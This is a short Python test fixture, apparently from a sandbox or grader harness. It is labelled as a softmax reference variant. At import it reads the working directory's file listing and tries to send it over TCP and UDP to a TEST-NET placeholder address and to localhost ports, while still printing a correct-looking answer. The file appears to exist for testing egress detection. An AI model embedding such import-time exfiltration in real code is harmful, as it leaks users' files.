# row: S1
# reference: clocks/softmax_small.py
# runs: both
# written: independently
# what: at import it tries to send the first bytes of the reference's folder listing to a TEST-NET address and to ports of the own machine (TCP and UDP, 1 s each), then computes honestly; a naive check sees a right answer
# base: softmax.py

import os, socket
marker = ("stitch-marker " + ",".join(sorted(os.listdir("."))[:8])).encode()
sent = 0
for address in (("192.0.2.1", 80), ("192.0.2.1", 53), ("127.0.0.1", 80), ("127.0.0.1", 9)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(1.0)
        try:
            s.connect(address)
            sent += s.send(marker)
        except OSError:
            pass
        finally:
            s.close()
print("network bytes sent:", sent)
